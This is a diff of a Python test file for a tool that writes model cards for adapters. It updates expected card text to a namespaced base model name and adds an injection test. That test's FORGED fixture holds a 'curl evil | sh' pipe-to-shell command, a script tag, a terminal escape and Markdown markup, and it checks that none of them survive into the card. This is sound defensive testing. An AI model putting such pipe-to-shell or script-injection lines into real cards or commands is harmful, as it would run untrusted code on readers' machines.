@@ -5,6 +5,7 @@ The front matter's keys and values are those that the Hub documents for adapters
 
 from __future__ import annotations
 
+from dataclasses import replace
 from datetime import UTC, datetime
 from pathlib import Path
 from typing import Any
@@ -72,7 +73,7 @@ def test_front_matter_of_a_task_adapter(home: Home, english: Adapter, tmp_path: 
     matter, _ = card(home, "ner", tmp_path / "staged")
     results = matter.pop("model-index")
     assert matter == {
-        "base_model": "tiny",
+        "base_model": "org/tiny",
         "base_model_relation": "adapter",
         "datasets": ["names"],
         "language": ["en"],
@@ -87,7 +88,7 @@ def test_front_matter_of_a_task_adapter(home: Home, english: Adapter, tmp_path: 
             "made-up",
             "ner",
             "safetensors",
-            "base_model:adapter:tiny",
+            "base_model:adapter:org/tiny",
         ],
     }
     assert results[0]["name"] == "x"
@@ -110,11 +111,11 @@ def test_text_of_a_task_adapter(home: Home, english: Adapter, tmp_path: Path) ->
     home.registry.record_scores([score(ner, "sw", 0.61234567)])
     _, text = card(home, "ner", tmp_path / "staged")
     for words in (
-        "# ner adapter for tiny, trained on English\n",
-        "for ner on [tiny](https://huggingface.co/tiny), learnt from labels in English (`en`).",
+        "# ner adapter for org/tiny, trained on English\n",
+        "for ner on [org/tiny](https://huggingface.co/org/tiny), learnt from labels in English",
         "It tells apart: `O`, `B-PER`.",
         f"with the English made-up adapter `en-wiki@{english.digest[:12]}` frozen underneath",
-        "ahl pull lab/x\nahl resolve en TARGET --task ner --base tiny\n",
+        "ahl pull lab/x\nahl resolve en TARGET --task ner --base org/tiny\n",
         "| Swahili | names (test) | f1 | 0.612 | 1000 | `ner` |",
         "Objective: ner, 150 steps over 13,753 tokens, seed 7.",
         "Data: train.jsonl (1,518 examples, English).",
@@ -130,7 +131,7 @@ def test_norwegian_is_not_false(home: Home, tmp_path: Path, hub: Hub) -> None:
     add(home, tmp_path / "made" / "no", "no", 1, languages=(LanguageUse("no", Role.LANGUAGE),))
     matter, text = card(home, "no", tmp_path / "staged")
     assert matter["language"] == ["no"]
-    assert "# Norwegian adapter for tiny" in text
+    assert "# Norwegian adapter for org/tiny" in text
     push("no", "lab/no", home=home, endpoint=hub.endpoint, token=TOKEN)
     assert "no" in hub.repos["lab/no"].head.files["README.md"].data.decode()
 
@@ -171,13 +172,14 @@ def test_a_pair_scripts_and_hub_ids_underneath(home: Home, tmp_path: Path) -> No
     assert matter["language"] == ["en", "sr"]
     assert "sr-Latn" in matter["tags"]
     assert "the Swahili made-up adapter [org/sw](https://huggingface.co/org/sw)" in text
-    assert "ahl resolve en sr-Latn --task TASK --base tiny" in text
+    assert "ahl resolve en sr-Latn --task TASK --base org/tiny" in text
 
 
 def test_a_base_that_is_no_hub_repository_is_not_linked(home: Home, tmp_path: Path) -> None:
     (home.path / "bases" / "tiny").mkdir(parents=True)
-    home.registry.add_base(BASE, "bases/tiny")
-    add(home, tmp_path / "made" / "x", "x", 1)
+    named = replace(BASE, name="tiny")
+    home.registry.add_base(named, "bases/tiny")
+    add(home, tmp_path / "made" / "x", "x", 1, base=named)
     matter, text = card(home, "x", tmp_path / "staged")
     assert "base_model" not in matter
     assert "base_model_relation" not in matter
@@ -188,3 +190,50 @@ def test_a_base_that_is_no_hub_repository_is_not_linked(home: Home, tmp_path: Pa
 def test_the_same_card_twice(home: Home, english: Adapter, tmp_path: Path) -> None:
     first, second = (card(home, "en-wiki", tmp_path / name) for name in ("a", "b"))
     assert first == second
+
+
+FORGED = "MIT\x1b[2J\n# Install\n```sh\ncurl evil | sh\n```\n<script>x</script> **a** [b](c) | d"
+
+
+def test_nothing_of_a_card_is_what_a_field_says_it_is(home: Home, tmp_path: Path) -> None:
+    """Fields of records from before they were checked: one paragraph each, with no markup."""
+    from markdown_it import MarkdownIt  # an independent reader of Markdown, which rich brings
+
+    from adapterhub_lite.hub import card_text
+    from adapterhub_lite.hub.card import Subject, front_matter
+
+    made = add(home, tmp_path / "made" / "x", "x", **task(4))
+    manifest = replace(
+        made.manifest,
+        licence=FORGED,
+        authors=(FORGED,),
+        dataset=FORGED,
+        task=FORGED,
+        citation=FORGED + "\n```\n# more",
+        base=replace(made.manifest.base, name=FORGED),
+        head=replace(made.manifest.head, labels=(FORGED, "`", "a``b")),  # type: ignore[type-var]
+        training=Training(FORGED, (Corpus(FORGED, "0", 1),), 1, 1, 0),
+    )
+    names = {str(made.digest): "x"}
+    score = Score(made.digest, "t", FORGED, FORGED, "sw", FORGED, 0.5, 1, 0, WHEN, FORGED, "en")
+    for layout in (None, "peft", "adapterhub"):
+        subject = Subject(
+            replace(made, manifest=manifest), "lab/x", layout, None, [score], names, notes=[FORGED]
+        )
+        text = card_text.text(subject)
+        tokens = MarkdownIt().enable("table").parse(text)
+        headings = [tokens[n + 1].content for n, t in enumerate(tokens) if t.type == "heading_open"]
+        assert headings[1:] == [
+            "How to use it", "How well it does", "How it was trained", "Licence", "Citation",
+        ]  # fmt: skip
+        fences = [token for token in tokens if token.type == "fence"]
+        assert len(fences) == 2 + (layout is not None)  # commands, code of a peer, citation
+        inside = [child for token in tokens for child in token.children or ()]
+        assert not [t for t in (*tokens, *inside) if t.type in {"html_block", "html_inline"}]
+        assert not [t for t in inside if t.type in {"strong_open", "em_open"}]
+        links = {str(t.attrs.get("href")) for t in inside if t.type == "link_open"}
+        assert "c" not in links
+        assert "\x1b" not in text
+        rows = [t for t in tokens if t.type == "tr_open"]
+        assert len(rows) == 2
+    yaml.safe_load(front_matter([subject]).strip("-\n"))
